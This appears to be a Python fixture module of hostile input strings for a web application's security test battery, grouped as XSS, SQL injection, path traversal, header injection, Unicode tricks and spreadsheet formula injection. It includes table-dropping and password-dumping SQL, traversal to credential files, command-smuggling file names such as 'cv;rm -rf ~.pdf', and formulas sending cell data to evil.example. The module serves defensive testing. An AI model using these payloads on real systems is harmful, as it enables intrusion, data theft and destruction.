"""Hostile values for the battery of tests/test_hostile_input.py, by category.

Each category is a list of strings (``INVALID_UTF8`` holds raw bytes). Together they are
well over 200 values; the battery sends each one at least once.
"""

from __future__ import annotations

_TAGS = ("script", "img", "svg", "iframe", "body", "a", "details", "video", "math", "style")
_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle")

XSS = [
    "<script>alert(1)</script>",
    "\"><script>alert('x')</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">lien</a>",
    "{{ 7*7 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${7*7}",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example\"><input name=x></form>",
    "[lien](javascript:alert(1))",
    "![img](x\" onerror=\"alert(1))",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)//-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
] + [f"<{tag} {handler}=alert({n})>" for n, (tag, handler) in enumerate(
    (t, h) for t in _TAGS for h in _HANDLERS
)]  # fmt: skip

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "1; DROP TABLE candidate; --",
    '\'; DELETE FROM "user"; --',
    '1\' UNION SELECT email, password_hash FROM "user" --',
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "name DESC; SELECT pg_sleep(5)--",
    "1) OR (1=1",
    "' AND SLEEP(5) AND '1'='1",
    "admin'--",
    "%' OR '%'='",
    "%",
    "_",
    "\\",
    "\\'",
    "''",
    "1 ORDER BY 99",
    "created_at; TRUNCATE audit_log",
    "CASE WHEN 1=1 THEN 1 ELSE 0 END",
    "(SELECT 1)",
    "1/0",
    "-1",
    "0x41424344",
    "9" * 40,
    "1e308",
    "NaN",
    "Infinity",
    "null",
    "[]",
    "{}",
    "$where: '1 == 1'",
    "' || (SELECT version()) || '",
    "; COPY candidate TO '/tmp/x'",
    "*/ OR /* ",
    'id) FROM "user" --',
    "pertinence' --",
    "recent DESC NULLS FIRST",
    "email ASC, (SELECT 1)",
    "\u0027 OR 1=1 --",
]

TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/proc/self/environ",
    "../instance/config.py",
    "../../instance/secret_key",
    "C:\\boot.ini",
    "file:///etc/passwd",
    "\\\\serveur\\partage\\cv.pdf",
    "cv.pdf\x00.html",
    "cv.pdf%00.exe",
    ".htaccess",
    "~/.ssh/id_rsa",
    "cv.pdf/../../../etc/hosts",
    "/dev/zero",
    "CON.pdf",
    "a" * 300 + ".pdf",
    ".",
    "..",
    "cv.php.pdf",
    "cv.pdf.exe",
    "cv;rm -rf ~.pdf",
    "cv`id`.pdf",
    "$(id).pdf",
]

HEADER_INJECTION = [
    "Objet\r\nBcc: victime@exemple.fr",
    "Objet\nBcc: victime@exemple.fr",
    "a@exemple.fr\r\nBcc: b@exemple.fr",
    "a@exemple.fr\nCc: b@exemple.fr",
    "a@exemple.fr%0d%0aBcc:b@exemple.fr",
    "Objet\r\n\r\n<html>corps injecté</html>",
    "x\r\nContent-Type: text/html",
    "x\rSubject: autre",
    "x\u2028Bcc: b@exemple.fr",
    "x\u0085Bcc: b@exemple.fr",
    '"Nom" <a@exemple.fr>, c@exemple.fr',
    "a@exemple.fr, b@exemple.fr",
    "a@exemple.fr;b@exemple.fr",
    "a@exemple.fr\tBcc: b@exemple.fr",
    "=?utf-8?q?=0D=0ABcc:_b@exemple.fr?=",
    "a@[127.0.0.1]",
    "a@localhost",
    '"a\\"b"@exemple.fr',
    "a@exemple.fr\r\nLocation: https://evil.example",
    "/\r\nSet-Cookie: session=vol",
    "https://evil.example",
    "//evil.example/",
    "/\\evil.example",
]

BIDI_ZERO_WIDTH = [
    "Facture\u202egpj.exe",
    "admin\u200b@exemple.fr",
    "\u200b\u200c\u200d\ufeff",
    "Jean\u2066Dupont\u2069",
    "\u202a\u202b\u202c\u202d\u202e",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "\u00a0\u2009\u202f",
    "Ｃａｍｉｌｌｅ",
    "𝓒𝓪𝓶𝓲𝓵𝓵𝓮",
    "😀" * 50,
    "\u0000",
    "\x1b[31mrouge\x1b[0m",
    "\x07\x08\x0b\x0c",
    "\ud7ff\ue000\uffff",
    "ﷺ" * 20,
    "\u0644\u0627 \u202e droite",
    "Z̴̢̛a̷l̸g̶o̵",
    "\u2028ligne\u2029",
    " ",
    "",
    "\t\n\r",
]

FORMULA = [
    "=1+1",
    '=HYPERLINK("https://evil.example","Cliquez")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "+cmd|'/C notepad'!'A1'",
    "-cmd|'/C notepad'!'A1'",
    "@cmd|'/C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"A1")',
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "=1+1;=2+2",
]

OVERSIZED = [
    "A" * 5000,
    "é" * 20000,
    "<b>" * 3000,
    "x " * 40000,
]

INVALID_UTF8 = [
    b"\xff\xfe\xfd",
    b"caf\xe9",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\xbc",
    b"\xed\xa0\x80",
    b"\xc0\xaf",
    b"\xf8\x88\x80\x80\x80",
    b"abc\x80def",
]

CATEGORIES: dict[str, list] = {
    "xss": XSS,
    "sql": SQL,
    "traversal": TRAVERSAL,
    "header": HEADER_INJECTION,
    "unicode": BIDI_ZERO_WIDTH,
    "formula": FORMULA,
    "oversized": OVERSIZED,
}


def all_text_values() -> list[tuple[str, str]]:
    """Every text value with its category."""
    return [(category, value) for category, values in CATEGORIES.items() for value in values]


def count() -> int:
    return len(all_text_values()) + len(INVALID_UTF8)
